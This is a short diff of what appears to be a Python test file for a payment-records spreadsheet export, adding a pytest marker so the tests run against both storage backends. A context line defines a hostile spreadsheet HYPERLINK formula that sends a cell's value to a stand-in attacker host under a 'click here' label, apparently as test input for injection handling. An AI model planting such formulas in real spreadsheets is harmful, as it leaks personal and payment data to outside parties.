@@ -33,6 +33,8 @@ HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
 HEADER = ["序号", "凭证号", "支付日期", "收款人", "收款人编号", "统一社会信用代码", "脱敏身份证号",
           "金额", "付款账户", "用途", "政策条款"]  # fmt: skip
 CODE = credit_code(7)
+# The instruction reads payments and payees back in bulk queries that differ by store.
+pytestmark = pytest.mark.both_stores
 
 
 @pytest.fixture
